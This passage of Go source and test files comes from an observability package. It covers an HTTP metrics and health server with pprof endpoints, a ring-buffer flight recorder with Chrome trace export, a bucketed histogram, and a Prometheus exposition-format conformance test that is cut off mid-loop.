		return nil, errors.New("httpexport: Config.Snapshot is required")
	}
	if cfg.SnapshotTTL <= 0 {
		cfg.SnapshotTTL = time.Second
	}
	ln, err := net.Listen("tcp", cfg.Addr)
	if err != nil {
		return nil, fmt.Errorf("httpexport: listen %s: %w", cfg.Addr, err)
	}
	s := &Server{cfg: cfg, ln: ln, done: make(chan struct{})}

	mux := http.NewServeMux()
	mux.HandleFunc("/healthz", s.handleHealthz)
	mux.HandleFunc("/metrics", s.handleMetrics)
	mux.HandleFunc("/progress", s.handleProgress)
	mux.HandleFunc("/trace", s.handleTrace)
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)

	s.srv = &http.Server{
		Handler:           mux,
		ReadHeaderTimeout: 5 * time.Second,
	}
	go func() {
		defer close(s.done)
		if err := s.srv.Serve(ln); err != nil && !errors.Is(err, http.ErrServerClosed) {
			s.mu.Lock()
			s.err = err
			s.mu.Unlock()
		}
	}()
	if cfg.Log != nil {
		fmt.Fprintf(cfg.Log, "observability: listening on http://%s\n", s.Addr())
	}
	return s, nil
}

// Addr returns the bound address (with the real port when Addr was :0).
func (s *Server) Addr() string {
	return s.ln.Addr().String()
}

// Shutdown stops accepting connections and drains in-flight requests
// until ctx expires. Safe to call more than once.
func (s *Server) Shutdown(ctx context.Context) error {
	err := s.srv.Shutdown(ctx)
	<-s.done
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	return err
}

// snapshot returns the cached snapshot, refreshing it when older than
// the TTL. Scrapers therefore cost the run at most one Snapshot per
// TTL, no matter how hard they poll.
func (s *Server) snapshot() *obs.Snapshot {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.lastSnap == nil || time.Since(s.lastAt) >= s.cfg.SnapshotTTL {
		s.lastSnap = s.cfg.Snapshot()
		s.lastAt = time.Now()
	}
	return s.lastSnap
}

func (s *Server) handleHealthz(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	io.WriteString(w, "ok\n")
}

func (s *Server) handleMetrics(w http.ResponseWriter, _ *http.Request) {
	snap := s.snapshot()
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	if snap == nil {
		return
	}
	if err := snap.WritePrometheus(w); err != nil {
		// Connection-level failure; the response is already partially
		// written, nothing recoverable to do.
		return
	}
}

func (s *Server) handleProgress(w http.ResponseWriter, r *http.Request) {
	if s.cfg.Progress == nil {
		http.NotFound(w, r)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	if err := enc.Encode(s.cfg.Progress()); err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

func (s *Server) handleTrace(w http.ResponseWriter, _ *http.Request) {
	var f *obs.FlightRecorder
	if s.cfg.Flight != nil {
		f = s.cfg.Flight()
	}
	w.Header().Set("Content-Type", "application/json")
	_ = f.WriteChromeTrace(w) // nil-safe: emits an empty valid trace
}
