package httpexport

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/obs"
)

func startTest(t *testing.T, cfg Config) *Server {
	t.Helper()
	cfg.Addr = "127.0.0.1:0"
	s, err := Start(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		_ = s.Shutdown(ctx)
	})
	return s
}

func get(t *testing.T, url string) (int, string) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

func TestEndpoints(t *testing.T) {
	reg := obs.NewRegistry()
	reg.Counter("campaign.completed").Add(3)
	reg.Gauge("simtime.shard.now_ns").Set(1e9)
	flight := reg.EnableFlight(64)
	flight.Record(obs.FlightMark, -1, -1, 0, "phase")

	type progress struct {
		Completed int `json:"completed"`
		Planned   int `json:"planned"`
	}
	s := startTest(t, Config{
		Snapshot: reg.Snapshot,
		Progress: func() any { return progress{Completed: 3, Planned: 5} },
		Flight:   reg.Flight,
	})
	base := "http://" + s.Addr()

	if code, body := get(t, base+"/healthz"); code != 200 || body != "ok\n" {
		t.Fatalf("/healthz = %d %q", code, body)
	}

	code, body := get(t, base+"/metrics")
	if code != 200 {
		t.Fatalf("/metrics = %d", code)
	}
	for _, want := range []string{
		"# TYPE campaign_completed counter", "campaign_completed 3",
		"# TYPE simtime_shard_now_ns gauge", "simtime_shard_now_ns 1000000000",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q:\n%s", want, body)
		}
	}

	code, body = get(t, base+"/progress")
	if code != 200 {
		t.Fatalf("/progress = %d", code)
	}
	var p progress
	if err := json.Unmarshal([]byte(body), &p); err != nil || p.Completed != 3 || p.Planned != 5 {
		t.Fatalf("/progress = %q (err %v)", body, err)
	}

	code, body = get(t, base+"/trace")
	if code != 200 || !strings.Contains(body, `"traceEvents"`) {
		t.Fatalf("/trace = %d %q", code, body)
	}

	if code, _ := get(t, base+"/debug/pprof/cmdline"); code != 200 {
		t.Fatalf("/debug/pprof/cmdline = %d", code)
	}
}

func TestProgressAbsent(t *testing.T) {
	s := startTest(t, Config{Snapshot: func() *obs.Snapshot { return nil }})
	if code, _ := get(t, "http://"+s.Addr()+"/progress"); code != 404 {
		t.Fatalf("/progress without a provider = %d, want 404", code)
	}
	// A nil snapshot still serves an empty 200 /metrics.
	if code, body := get(t, "http://"+s.Addr()+"/metrics"); code != 200 || body != "" {
		t.Fatalf("/metrics with nil snapshot = %d %q", code, body)
	}
}

func TestSnapshotTTLCaching(t *testing.T) {
	var calls atomic.Int64
	reg := obs.NewRegistry()
	reg.Counter("x").Inc()
	s := startTest(t, Config{
		Snapshot:    func() *obs.Snapshot { calls.Add(1); return reg.Snapshot() },
		SnapshotTTL: time.Hour,
	})
	for i := 0; i < 20; i++ {
		if code, _ := get(t, "http://"+s.Addr()+"/metrics"); code != 200 {
			t.Fatal("scrape failed")
		}
	}
	if got := calls.Load(); got != 1 {
		t.Fatalf("snapshot called %d times for 20 scrapes within TTL, want 1", got)
	}
}

func TestStartReportsAddrAndShutdown(t *testing.T) {
	var log bytes.Buffer
	s, err := Start(Config{
		Addr:     "127.0.0.1:0",
		Snapshot: func() *obs.Snapshot { return nil },
		Log:      &log,
	})
	if err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("observability: listening on http://%s\n", s.Addr())
	if log.String() != want {
		t.Fatalf("log = %q, want %q", log.String(), want)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatalf("shutdown: %v", err)
	}
	// The port is released: a second server can bind the same address.
	if _, err := http.Get("http://" + s.Addr() + "/healthz"); err == nil {
		t.Fatal("server still serving after Shutdown")
	}
}

func TestStartRequiresSnapshot(t *testing.T) {
	if _, err := Start(Config{Addr: "127.0.0.1:0"}); err == nil {
		t.Fatal("Start without Snapshot succeeded")
	}
}
