package httpexport

import (
	"net/http/httptest"
	"strings"
	"testing"

	"repro/internal/obs"
)

// TestHealthzStates is the /healthz conformance test: the three states
// map to fixed bodies and status codes — 200 for ok and degraded (a
// busy daemon must not be killed by its liveness probe), 503 exactly
// when draining (so load balancers stop routing). A nil Health closure
// is always ok.
func TestHealthzStates(t *testing.T) {
	state := HealthOK
	h, err := NewHandler(Config{
		Snapshot: func() *obs.Snapshot { return nil },
		Health:   func() string { return state },
	})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()

	cases := []struct {
		state string
		code  int
	}{
		{HealthOK, 200},
		{HealthDegraded, 200},
		{HealthDraining, 503},
		{HealthOK, 200}, // recovers after draining-capable probe
	}
	for _, tc := range cases {
		state = tc.state
		code, body := get(t, srv.URL+"/healthz")
		if code != tc.code || body != tc.state+"\n" {
			t.Fatalf("state %q: got %d %q, want %d %q", tc.state, code, body, tc.code, tc.state+"\n")
		}
	}
}

func TestHealthzDefaultsToOK(t *testing.T) {
	h, err := NewHandler(Config{Snapshot: func() *obs.Snapshot { return nil }})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	if code, body := get(t, srv.URL+"/healthz"); code != 200 || body != "ok\n" {
		t.Fatalf("/healthz = %d %q, want 200 \"ok\\n\"", code, body)
	}
}

func TestHandlerMountableUnderHostMux(t *testing.T) {
	// idsevald mounts the obs plane on its own mux next to the ingest
	// routes; the handler must work when it is not the root handler.
	reg := obs.NewRegistry()
	reg.Counter("serve.chunks.delivered").Add(2)
	h, err := NewHandler(Config{Snapshot: reg.Snapshot})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	code, body := get(t, srv.URL+"/metrics")
	if code != 200 {
		t.Fatalf("/metrics = %d", code)
	}
	if want := "serve_chunks_delivered 2"; !strings.Contains(body, want) {
		t.Fatalf("/metrics missing %q:\n%s", want, body)
	}
}
