package obs

import (
	"testing"

	"repro/internal/fsio"
)

// The fsio bridge must surface the storage layer's counters under
// stable names and merge cleanly into a registry snapshot.
func TestFSIOSnapshotBridge(t *testing.T) {
	before, _ := FSIOSnapshot().Counter("fsio.append_repairs")
	fsio.NoteFault() // the only stat with a public mutator

	snap := FSIOSnapshot()
	for _, name := range []string{"fsio.append_repairs", "fsio.dirsync_errors", "fsio.faults_injected"} {
		if _, ok := snap.Counter(name); !ok {
			t.Errorf("FSIOSnapshot missing counter %s", name)
		}
	}
	if got, _ := snap.Counter("fsio.faults_injected"); got == 0 {
		t.Error("fsio.faults_injected did not advance after NoteFault")
	}
	if got, _ := snap.Counter("fsio.append_repairs"); got < before {
		t.Error("counters went backwards")
	}

	reg := NewRegistry()
	reg.Counter("serve.accepted").Inc()
	m := reg.Snapshot()
	m.Merge(FSIOSnapshot())
	if _, ok := m.Counter("fsio.faults_injected"); !ok {
		t.Error("merged snapshot lost the fsio counters")
	}
}
