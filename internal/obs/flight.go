package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"time"

	"repro/internal/fsio"
)

// FlightKind classifies a flight-recorder event. Kinds cover the coarse
// lifecycle milestones of a run — the things an operator staring at a
// wedged multi-hour campaign needs on a timeline — not per-packet
// detail (that is what metrics and spans are for).
type FlightKind uint8

// Flight-recorder event kinds.
const (
	// FlightExperimentStart marks a campaign experiment attempt starting
	// (Name = experiment ID, Arg = attempt number).
	FlightExperimentStart FlightKind = iota + 1
	// FlightExperimentDone marks a committed experiment (Dur = attempt
	// wall time, Arg = attempt number).
	FlightExperimentDone
	// FlightExperimentRetry marks a failed attempt that will be retried
	// (Arg = attempt number that failed).
	FlightExperimentRetry
	// FlightExperimentPanic marks a recovered experiment panic.
	FlightExperimentPanic
	// FlightWindow is one shard domain executing one lookahead window
	// (Dom = domain, Dur = wall execution time, Sim = window start,
	// Arg = events executed).
	FlightWindow
	// FlightBarrierWait is the wall time a domain idled at the window
	// barrier waiting for the slowest domain (Dom = domain, Dur = stall).
	FlightBarrierWait
	// FlightFaultInject marks a fault-scenario onset firing in the
	// simulation (Name = "kind:target", Sim = injection time).
	FlightFaultInject
	// FlightMark is a free-form milestone (phase changes, shutdown).
	FlightMark
)

// String names the kind for exports.
func (k FlightKind) String() string {
	switch k {
	case FlightExperimentStart:
		return "experiment_start"
	case FlightExperimentDone:
		return "experiment_done"
	case FlightExperimentRetry:
		return "experiment_retry"
	case FlightExperimentPanic:
		return "experiment_panic"
	case FlightWindow:
		return "window"
	case FlightBarrierWait:
		return "barrier_wait"
	case FlightFaultInject:
		return "fault_inject"
	case FlightMark:
		return "mark"
	default:
		return "unknown"
	}
}

// FlightEvent is one recorded milestone. Wall is the offset from the
// recorder's epoch (its creation); Dur is zero for instantaneous
// events. Sim carries the simulation-clock time where one exists
// (window starts, fault onsets) and -1 where none does.
type FlightEvent struct {
	Seq  uint64        `json:"seq"`
	Kind FlightKind    `json:"kind"`
	Wall time.Duration `json:"wall_ns"`
	Dur  time.Duration `json:"dur_ns"`
	Sim  int64         `json:"sim_ns"`
	Dom  int32         `json:"dom"`
	Arg  int64         `json:"arg"`
	Name string        `json:"name,omitempty"`
}

// FlightRecorder is a bounded ring buffer of typed events: a sim-time
// flight recorder for long runs. When the ring fills, the oldest events
// are overwritten — the recorder always holds the most recent window of
// activity, which is exactly what a post-mortem of a stall needs.
//
// The same two properties that shape the metrics registry hold here:
// a nil *FlightRecorder is the disabled configuration and every method
// on it is a free no-op (pinned at 0 allocs/op by benchmark), and
// recording never perturbs — no event touches simulation state or a
// random stream, so runs are byte-identical with the recorder on or
// off. Record is safe for concurrent use (shard executors and campaign
// workers share one recorder).
type FlightRecorder struct {
	mu      sync.Mutex
	epoch   time.Time
	buf     []FlightEvent // ring, preallocated at construction
	next    uint64        // total events ever recorded
	dropped uint64        // events overwritten after the ring filled
}

// DefaultFlightCapacity bounds the ring when callers pass cap <= 0:
// 64Ki events ≈ 6 MB — hours of campaign milestones, or the most
// recent tens of thousands of shard windows.
const DefaultFlightCapacity = 1 << 16

// NewFlightRecorder creates a recorder holding the last cap events
// (cap <= 0 selects DefaultFlightCapacity). The ring is allocated up
// front so Record never allocates.
func NewFlightRecorder(cap int) *FlightRecorder {
	if cap <= 0 {
		cap = DefaultFlightCapacity
	}
	return &FlightRecorder{
		epoch: time.Now(),
		buf:   make([]FlightEvent, cap),
	}
}

// Record appends an instantaneous event. No-op on nil.
func (f *FlightRecorder) Record(kind FlightKind, dom int32, sim int64, arg int64, name string) {
	if f == nil {
		return
	}
	f.record(kind, time.Since(f.epoch), 0, sim, dom, arg, name)
}

// RecordSpan appends an event with wall extent [start, start+dur),
// where start is an absolute wall-clock time (as from time.Now at the
// span's beginning). No-op on nil.
func (f *FlightRecorder) RecordSpan(kind FlightKind, dom int32, start time.Time, dur time.Duration, sim int64, arg int64, name string) {
	if f == nil {
		return
	}
	f.record(kind, start.Sub(f.epoch), dur, sim, dom, arg, name)
}

func (f *FlightRecorder) record(kind FlightKind, wall, dur time.Duration, sim int64, dom int32, arg int64, name string) {
	f.mu.Lock()
	slot := &f.buf[f.next%uint64(len(f.buf))]
	if f.next >= uint64(len(f.buf)) {
		f.dropped++
	}
	slot.Seq = f.next
	slot.Kind = kind
	slot.Wall = wall
	slot.Dur = dur
	slot.Sim = sim
	slot.Dom = dom
	slot.Arg = arg
	slot.Name = name
	f.next++
	f.mu.Unlock()
}

// Len returns how many events the ring currently holds (0 for nil).
func (f *FlightRecorder) Len() int {
	if f == nil {
		return 0
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.next < uint64(len(f.buf)) {
		return int(f.next)
	}
	return len(f.buf)
}

// Recorded returns the total number of events ever recorded, including
// ones the ring has since overwritten (0 for nil).
func (f *FlightRecorder) Recorded() uint64 {
	if f == nil {
		return 0
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.next
}

// Dropped returns how many events were overwritten after the ring
// filled (0 for nil).
func (f *FlightRecorder) Dropped() uint64 {
	if f == nil {
		return 0
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.dropped
}

// Events returns the retained events oldest-first. Nil recorders have
// none.
func (f *FlightRecorder) Events() []FlightEvent {
	if f == nil {
		return nil
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	n := f.next
	cap := uint64(len(f.buf))
	out := make([]FlightEvent, 0, min64(n, cap))
	start := uint64(0)
	if n > cap {
		start = n - cap
	}
	for i := start; i < n; i++ {
		out = append(out, f.buf[i%cap])
	}
	return out
}

func min64(a, b uint64) uint64 {
	if a < b {
		return a
	}
	return b
}

// chromeEvent is one Chrome trace_event object. Timestamps and
// durations are microseconds (floats), per the trace-event format that
// Perfetto and chrome://tracing ingest.
type chromeEvent struct {
	Name string         `json:"name"`
	Cat  string         `json:"cat"`
	Ph   string         `json:"ph"`
	Ts   float64        `json:"ts"`
	Dur  float64        `json:"dur,omitempty"`
	Pid  int            `json:"pid"`
	Tid  int            `json:"tid"`
	Args map[string]any `json:"args,omitempty"`
}

// flightTid maps a domain to a trace thread id: domain i becomes tid
// i+1, and harness-level events (Dom < 0) land on tid 0.
func flightTid(dom int32) int {
	if dom < 0 {
		return 0
	}
	return int(dom) + 1
}

// WriteChromeTrace renders the retained events as Chrome trace_event
// JSON (the format Perfetto's UI loads directly). Each shard domain
// becomes one named thread; windows and barrier waits render as
// duration slices, instantaneous milestones as instant events, so a
// sharded run's execution overlap and barrier stalls read straight off
// the timeline. Writes an empty-but-valid trace for a nil recorder.
func (f *FlightRecorder) WriteChromeTrace(w io.Writer) error {
	events := f.Events()
	var out struct {
		DisplayTimeUnit string        `json:"displayTimeUnit"`
		TraceEvents     []chromeEvent `json:"traceEvents"`
	}
	out.DisplayTimeUnit = "ms"

	// Thread-name metadata: tid 0 is the harness (campaign runner, fault
	// injector); shard domains take their domain number.
	tids := map[int]string{}
	for _, e := range events {
		t := flightTid(e.Dom)
		if _, ok := tids[t]; ok {
			continue
		}
		if e.Dom < 0 {
			tids[t] = "harness"
		} else {
			tids[t] = fmt.Sprintf("domain %d", e.Dom)
		}
	}
	// Deterministic metadata order: ascending tid.
	for t := 0; t < len(tids)+64; t++ {
		name, ok := tids[t]
		if !ok {
			continue
		}
		out.TraceEvents = append(out.TraceEvents, chromeEvent{
			Name: "thread_name", Ph: "M", Pid: 1, Tid: t,
			Args: map[string]any{"name": name},
		})
	}

	for _, e := range events {
		ce := chromeEvent{
			Cat: e.Kind.String(),
			Ts:  float64(e.Wall.Nanoseconds()) / 1e3,
			Pid: 1,
			Tid: flightTid(e.Dom),
			Args: map[string]any{
				"seq": e.Seq,
				"arg": e.Arg,
			},
		}
		if e.Sim >= 0 {
			ce.Args["sim_us"] = float64(e.Sim) / 1e3
		}
		ce.Name = e.Kind.String()
		if e.Name != "" {
			ce.Name = e.Name
		}
		if e.Dur > 0 {
			ce.Ph = "X"
			ce.Dur = float64(e.Dur.Nanoseconds()) / 1e3
		} else {
			ce.Ph = "i"
			// Instant scope: thread.
			ce.Args["s"] = "t"
		}
		out.TraceEvents = append(out.TraceEvents, ce)
	}
	enc := json.NewEncoder(w)
	return enc.Encode(&out)
}

// WriteChromeTraceFile writes the Chrome trace atomically to path, with
// the same crash guarantees as the snapshot exporters.
func (f *FlightRecorder) WriteChromeTraceFile(path string) error {
	return fsio.WriteAtomic(path, f.WriteChromeTrace)
}
