package obs

import (
	"math"
	"sort"
	"sync/atomic"
	"time"
)

// defaultDurationBounds is the shared log-spaced bucket ladder for
// duration histograms: eight buckets per decade from 100ns to 100s
// (factor 10^(1/8) ≈ 1.33), which bounds the relative interpolation
// error of a percentile estimate at one bucket width (~33%) and keeps a
// histogram at 74 fixed counters. Computed once; never mutated.
var defaultDurationBounds = makeDurationBounds()

func makeDurationBounds() []int64 {
	const perDecade = 8
	lo, hi := 100.0, 100e9 // 100ns .. 100s in ns
	var bounds []int64
	for i := 0; ; i++ {
		v := lo * math.Pow(10, float64(i)/perDecade)
		if v > hi*1.0001 {
			break
		}
		b := int64(math.Round(v))
		if n := len(bounds); n > 0 && b <= bounds[n-1] {
			continue
		}
		bounds = append(bounds, b)
	}
	return bounds
}

// Histogram is a fixed-bucket histogram with atomic counters: Observe
// is lock-free, allocation-free, and safe for concurrent use. Values
// above the last bound land in an overflow bucket; min/max track the
// exact extremes so quantile estimates can be clamped to observed data.
// A nil *Histogram is a valid no-op instrument.
type Histogram struct {
	name   string
	clock  Clock
	bounds []int64 // ascending upper bounds (inclusive)
	counts []atomic.Uint64
	count  atomic.Uint64
	sum    atomic.Int64
	min    atomic.Int64
	max    atomic.Int64
}

// NewHistogram builds a standalone (unregistered) histogram. bounds are
// ascending inclusive upper bounds; nil selects the default duration
// ladder. Standalone histograms serve measurement sites that always
// collect (e.g. latency percentiles feeding a scorecard) independent of
// whether a registry is wired.
func NewHistogram(name string, clock Clock, bounds []int64) *Histogram {
	if bounds == nil {
		bounds = defaultDurationBounds
	}
	h := &Histogram{
		name:   name,
		clock:  clock,
		bounds: bounds,
		counts: make([]atomic.Uint64, len(bounds)+1),
	}
	h.min.Store(math.MaxInt64)
	h.max.Store(math.MinInt64)
	return h
}

// Observe records one value.
func (h *Histogram) Observe(v int64) {
	if h == nil {
		return
	}
	// Binary search for the first bound >= v; sort.Search is avoided on
	// the hot path (it takes a closure).
	lo, hi := 0, len(h.bounds)
	for lo < hi {
		mid := int(uint(lo+hi) >> 1)
		if h.bounds[mid] < v {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	h.counts[lo].Add(1)
	h.count.Add(1)
	h.sum.Add(v)
	atomicMin(&h.min, v)
	atomicMax(&h.max, v)
}

// ObserveDuration records a duration in nanoseconds.
func (h *Histogram) ObserveDuration(d time.Duration) { h.Observe(int64(d)) }

// Name returns the histogram's name ("" for nil).
func (h *Histogram) Name() string {
	if h == nil {
		return ""
	}
	return h.name
}

// Count returns the number of observations (0 for nil).
func (h *Histogram) Count() uint64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Snap captures a consistent-enough view for reporting. (Observations
// racing a snapshot may be partially included; snapshots are taken at
// run boundaries where the simulation is quiescent.)
func (h *Histogram) Snap() *HistSnap {
	if h == nil {
		return nil
	}
	s := &HistSnap{
		Name:  h.name,
		Clock: h.clock,
		Count: h.count.Load(),
		Sum:   h.sum.Load(),
	}
	if s.Count == 0 {
		return s
	}
	s.Min = h.min.Load()
	s.Max = h.max.Load()
	s.Buckets = make([]Bucket, 0, len(h.counts))
	for i := range h.counts {
		n := h.counts[i].Load()
		if n == 0 {
			continue
		}
		upper := s.Max
		if i < len(h.bounds) {
			upper = h.bounds[i]
		}
		lower := int64(0)
		if i > 0 {
			lower = h.bounds[i-1]
		}
		s.Buckets = append(s.Buckets, Bucket{Lower: lower, Upper: upper, Count: n})
	}
	return s
}

// Bucket is one populated histogram bucket: values in (Lower, Upper].
type Bucket struct {
	Lower int64  `json:"lower"`
	Upper int64  `json:"upper"`
	Count uint64 `json:"count"`
}

// HistSnap is an immutable histogram summary for exports and reports.
type HistSnap struct {
	Name    string   `json:"name"`
	Clock   Clock    `json:"-"`
	Count   uint64   `json:"count"`
	Sum     int64    `json:"sum"`
	Min     int64    `json:"min,omitempty"`
	Max     int64    `json:"max,omitempty"`
	Buckets []Bucket `json:"buckets,omitempty"`
}

// Mean returns the arithmetic mean (0 when empty).
func (s *HistSnap) Mean() float64 {
	if s == nil || s.Count == 0 {
		return 0
	}
	return float64(s.Sum) / float64(s.Count)
}

// Quantile estimates the q-quantile (q in [0,1]) by linear
// interpolation inside the covering bucket, clamped to the observed
// min/max so estimates never stray outside real data.
func (s *HistSnap) Quantile(q float64) int64 {
	if s == nil || s.Count == 0 {
		return 0
	}
	if q <= 0 {
		return s.Min
	}
	if q >= 1 {
		return s.Max
	}
	rank := q * float64(s.Count)
	var cum float64
	for _, b := range s.Buckets {
		next := cum + float64(b.Count)
		if next >= rank {
			lower, upper := b.Lower, b.Upper
			if lower < s.Min {
				lower = s.Min
			}
			if upper > s.Max {
				upper = s.Max
			}
			if upper <= lower {
				return upper
			}
			frac := (rank - cum) / float64(b.Count)
			v := float64(lower) + frac*float64(upper-lower)
			return int64(math.Round(v))
		}
		cum = next
	}
	return s.Max
}

// QuantileDuration is Quantile for nanosecond-valued histograms.
func (s *HistSnap) QuantileDuration(q float64) time.Duration {
	return time.Duration(s.Quantile(q))
}

// MeanDuration is Mean for nanosecond-valued histograms.
func (s *HistSnap) MeanDuration() time.Duration {
	return time.Duration(math.Round(s.Mean()))
}

// searchBounds is used by tests to verify the ladder is sorted.
func searchBounds(bounds []int64, v int64) int {
	return sort.Search(len(bounds), func(i int) bool { return bounds[i] >= v })
}
