package obs

import (
	"bufio"
	"bytes"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
)

// promMetricName matches a legal Prometheus metric name.
var promMetricName = regexp.MustCompile(`^[a-zA-Z_:][a-zA-Z0-9_:]*$`)

// promSample matches one sample line, capturing name, optional label
// block, and value.
var promSample = regexp.MustCompile(`^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{[^}]*\})? (-?[0-9]+(?:\.[0-9]+)?|\+Inf|-Inf|NaN)$`)

// checkExposition validates text against the exposition-format rules
// this package promises: HELP-before-TYPE per family, contiguous
// family sample blocks, legal names, unique labelsets, and histogram
// bucket/_sum/_count invariants. Returns the family set seen.
func checkExposition(t *testing.T, text string) map[string]string {
	t.Helper()
	families := map[string]string{} // name -> type
	helped := map[string]bool{}
	seenSample := map[string]bool{} // name + labels
	var curFamily, curType string
	type histState struct {
		lastLe    float64
		lastCum   uint64
		infCum    uint64
		hasInf    bool
		count     uint64
		hasCount  bool
		hasSum    bool
		bucketSeq int
	}
	hists := map[string]*histState{}

	// base strips a histogram sample suffix down to its family name.
	base := func(name string) string {
		for _, suf := range []string{"_bucket", "_sum", "_count"} {
			if strings.HasSuffix(name, suf) {
				if fam := strings.TrimSuffix(name, suf); families[fam] == "histogram" {
					return fam
				}
			}
		}
		return name
	}

	sc := bufio.NewScanner(strings.NewReader(text))
	for sc.Scan() {
		line := sc.Text()
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, "# HELP ") {
			fields := strings.SplitN(strings.TrimPrefix(line, "# HELP "), " ", 2)
			name := fields[0]
			if !promMetricName.MatchString(name) {
				t.Errorf("illegal family name in HELP: %q", name)
			}
			if helped[name] {
				t.Errorf("family %s declared twice", name)
			}
			helped[name] = true
			curFamily, curType = name, ""
			continue
		}
		if strings.HasPrefix(line, "# TYPE ") {
			fields := strings.Fields(strings.TrimPrefix(line, "# TYPE "))
			if len(fields) != 2 {
				t.Fatalf("malformed TYPE line: %q", line)
			}
			name, typ := fields[0], fields[1]
			if name != curFamily {
				t.Errorf("TYPE %s not immediately preceded by its HELP (current family %q)", name, curFamily)
			}
			if _, dup := families[name]; dup {
				t.Errorf("TYPE for family %s emitted twice", name)
			}
			families[name] = typ
			curType = typ
			if typ == "histogram" {
				hists[name] = &histState{}
			}
			continue
		}
		if strings.HasPrefix(line, "#") {
			t.Errorf("non-HELP/TYPE comment line (not exposition format): %q", line)
			continue
		}
		m := promSample.FindStringSubmatch(line)
		if m == nil {
			t.Errorf("unparseable sample line: %q", line)
			continue
		}
		name, labels, valStr := m[1], m[2], m[3]
		fam := base(name)
		if fam != curFamily {
			t.Errorf("sample %s outside its family block (current %q): samples must be contiguous", name, curFamily)
		}
		key := name + labels
		if seenSample[key] {
			t.Errorf("duplicate sample (name+labelset): %q", key)
		}
		seenSample[key] = true

		if curType == "histogram" {
			h := hists[fam]
			val, _ := strconv.ParseUint(valStr, 10, 64)
			switch {
			case strings.HasSuffix(name, "_bucket"):
				le := labelValue(t, labels, "le")
				var leV float64
				if le == "+Inf" {
					h.hasInf = true
					h.infCum = val
					leV = 1e308
				} else {
					f, err := strconv.ParseFloat(le, 64)
					if err != nil {
						t.Errorf("bad le value %q", le)
					}
					leV = f
				}
				if h.bucketSeq > 0 && leV <= h.lastLe {
					t.Errorf("%s buckets: le %v not ascending after %v", fam, leV, h.lastLe)
				}
				if val < h.lastCum {
					t.Errorf("%s buckets not cumulative: %d after %d", fam, val, h.lastCum)
				}
				h.lastLe, h.lastCum = leV, val
				h.bucketSeq++
			case strings.HasSuffix(name, "_sum"):
				h.hasSum = true
			case strings.HasSuffix(name, "_count"):
				h.hasCount = true
				h.count = val
			default:
				t.Errorf("histogram family %s has non-histogram sample %q", fam, name)
			}
		}
	}
	for fam, h := range hists {
		if !h.hasInf || !h.hasSum || !h.hasCount {
			t.Errorf("histogram %s missing +Inf/_sum/_count (%v/%v/%v)", fam, h.hasInf, h.hasSum, h.hasCount)
		}
		if h.infCum != h.count {
			t.Errorf("histogram %s: +Inf bucket %d != _count %d", fam, h.infCum, h.count)
		}
	}
	return families
}

func labelValue(t *testing.T, labels, key string) string {
	t.Helper()
	m := regexp.MustCompile(key + `="([^"]*)"`).FindStringSubmatch(labels)
	if m == nil {
		t.Errorf("labels %q missing %s", labels, key)
		return ""
	}
	return m[1]
}

// TestPrometheusExportConformance exercises the full instrument surface
// — awkward names included — and validates the rendered text against
// the exposition-format rules.
func TestPrometheusExportConformance(t *testing.T) {
	reg := NewRegistry()
	reg.Counter("ids.sensor-0.drops").Add(7)
	reg.Counter("9lives").Inc() // leading digit must be escaped
	reg.Gauge("queue.depth").Set(12)
	h := reg.Histogram("scan.lat_ns", ClockWall)
	for i := int64(1); i <= 100; i++ {
		h.Observe(i * 1000)
	}
	reg.Histogram("empty.lat_ns", ClockSim) // registered, never observed
	reg.StartSpan("stage.one").End()
	reg.StartSpan("stage.one").End() // second span, same name: needs unique labelset
	reg.RecordSimSpan("stage.two", time.Second, time.Second)

	var buf bytes.Buffer
	if err := reg.Snapshot().WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	fams := checkExposition(t, buf.String())

	for name, typ := range map[string]string{
		"ids_sensor_0_drops": "counter",
		"_9lives":            "counter",
		"queue_depth":        "gauge",
		"queue_depth_high":   "gauge",
		"scan_lat_ns":        "histogram",
		"scan_lat_ns_q":      "gauge",
		"empty_lat_ns":       "histogram",
		"stage_one_span_ns":  "gauge",
		"stage_two_span_ns":  "gauge",
	} {
		if got := fams[name]; got != typ {
